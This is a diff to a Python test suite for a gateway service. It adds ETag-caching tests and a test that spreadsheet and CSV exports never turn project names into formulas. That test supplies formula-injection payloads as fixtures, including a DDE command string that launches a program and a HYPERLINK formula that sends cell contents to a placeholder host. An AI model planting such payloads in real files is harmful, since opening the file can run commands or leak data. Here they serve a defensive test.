@@ -1,18 +1,26 @@
 """What is answered: tags, kept bodies, compression, files, streams, the page."""
 
+import csv
 import gzip
 import hashlib
+import io
 import json
 import os
 import pathlib
+import re
 import shutil
 import socket
+import subprocess
 import tempfile
 import time
 import unittest
+import zipfile
 
-from door import Client, Gateway, ask, request
+import openpyxl
+
+from door import BIN, Client, Gateway, ask, request
 from suite import new_id, pb, suite
+from test_upstream_revision import Forwarder
 from world import World
 
 USER = {"X-Forwarded-User": "sato"}
@@ -27,6 +35,16 @@ def rename(world, name):
     change.update_mask.paths.append("display_name")
     suite().catalog.ApplyChanges(changes.ApplyChangesRequest(
         parent=world.name, request_id=new_id(), changes=[change]))
+
+
+class Aggregator(Forwarder):
+    """One that computes by newer rules while it `falsifies()`."""
+
+    def __init__(self, address):
+        super().__init__(address, "CompareExecution", pb("aggregator/compare_execution").CompareExecutionResponse)
+
+    def change(self, message):
+        message.computation += 1
 
 
 class Answers(unittest.TestCase):
@@ -101,6 +119,41 @@ class Answers(unittest.TestCase):
                  self.get(self.comparison + "&languageCode=en"), self.get(self.comparison, listener="public")]
         self.assertEqual([f.status for f in forms], [200] * 4)
         self.assertEqual(len({f["etag"] for f in forms}), 4)
+
+    def test_another_program_has_other_tags(self):
+        """Of the same version: what it writes may be something else."""
+        build_id = bytes.fromhex(re.search(r"Build ID: (\w+)", subprocess.run(
+            ["readelf", "--notes", BIN / "kuzukuri-gateway"], check=True, capture_output=True, text=True).stdout)[1])
+        program = self.folder / "rebuilt"
+        program.write_bytes((BIN / "kuzukuri-gateway").read_bytes().replace(build_id, bytes(reversed(build_id))))
+        program.chmod(0o755)
+        rebuilt, again = (Gateway("--trusted-proxy-loopback", program=p) for p in (program, BIN / "kuzukuri-gateway"))
+        for door in (rebuilt, again):
+            self.addCleanup(door.stop)
+            door.start()
+        first = self.get(self.comparison)
+        known = {**USER, "If-None-Match": first["etag"]}
+        same, other = (ask(door.staff, "GET", self.comparison, known) for door in (again, rebuilt))
+        self.assertEqual((same.status, other.status, other.body), (304, 200, first.body))
+        self.assertNotEqual(other["etag"], first["etag"])
+
+    def test_figures_by_other_rules_have_other_tags(self):
+        forwarder = Aggregator(suite().services["aggregator"].address)
+        self.addCleanup(forwarder.stop)
+        services = {name: service.address for name, service in suite().services.items()}
+        door = Gateway("--trusted-proxy-loopback", services={**services, "aggregator": forwarder.address})
+        self.addCleanup(door.stop)
+        door.start()
+        first = ask(door.staff, "GET", self.comparison, USER)
+        known = {**USER, "If-None-Match": first["etag"]}
+        self.assertEqual(ask(door.staff, "GET", self.comparison, known).status, 304)
+        forwarder.falsifies = lambda: True
+        # Whatever is computed next tells it.
+        ask(door.staff, "GET", self.comparison.replace("LEVEL_PROJECT", "LEVEL_CLASS"), USER)
+        other = ask(door.staff, "GET", self.comparison, known)
+        self.assertEqual(other.status, 200)
+        self.assertNotEqual(other["etag"], first["etag"])
+        self.assertEqual(other.json()["computation"], first.json()["computation"] + 1)
 
     def test_who_may_keep_it(self):
         snapshot = self.get(self.comparison).json()["snapshot"]
@@ -180,6 +233,32 @@ class Answers(unittest.TestCase):
                 self.assertTrue(answer["content-type"].startswith(start), answer["content-type"])
                 self.assertGreater(len(answer.body), 500)
         self.assertEqual(self.get(self.comparison, {"Accept": "image/png"}).status, 400)
+
+    def test_texts_never_become_formulas(self):
+        """Names are what others wrote: a workbook has them as strings, a CSV file behind an apostrophe."""
+        names = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "＝1+1", '=HYPERLINK("http://x/?"&A1)']
+        world = World(suite())
+        for year in (2022, 2023):
+            world.suite.catalog.BatchCreateProjects(project.BatchCreateProjectsRequest(
+                parent=world.year(year), request_id=new_id(),
+                projects=[world.make_project(year, 10 + i, display_name=name) for i, name in enumerate(names)]))
+            world.append(year, [world.entry(year, 0, 1_000, kind=kind) for kind in (1, 20)])
+        path = self.comparison.replace(self.world.code, world.code)
+        book = self.get(path.replace("comparison?", "comparison.xlsx?"))
+        with zipfile.ZipFile(io.BytesIO(book.body)) as archive:
+            self.assertIsNone(archive.testzip())
+            self.assertEqual([n for n in archive.namelist() if re.search(rb"<(\w+:)?f[\s/>]", archive.read(n))], [])
+            self.assertFalse([n for n in archive.namelist() if "externalLink" in n or "vbaProject" in n])
+        cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(book.body)).worksheets for row in sheet for c in row]
+        self.assertNotIn("f", {c.data_type for c in cells})
+        self.assertEqual({c.data_type for c in cells if c.value in names}, {"s"})
+        self.assertLessEqual(set(names), {c.value for c in cells})
+        self.assertIn(1_000, {c.value for c in cells if c.data_type == "n"})
+        lines = list(csv.reader(io.StringIO(
+            self.get(path.replace("comparison?", "comparison.csv?")).body.decode("utf-8-sig"))))
+        texts = {cell for line in lines for cell in line}
+        self.assertLessEqual({"'" + name for name in names}, texts)
+        self.assertFalse(texts & set(names))
 
     def test_unknown_parameters_name_those_there_are(self):
         answer = self.get(self.comparison + "&nonsense=1")
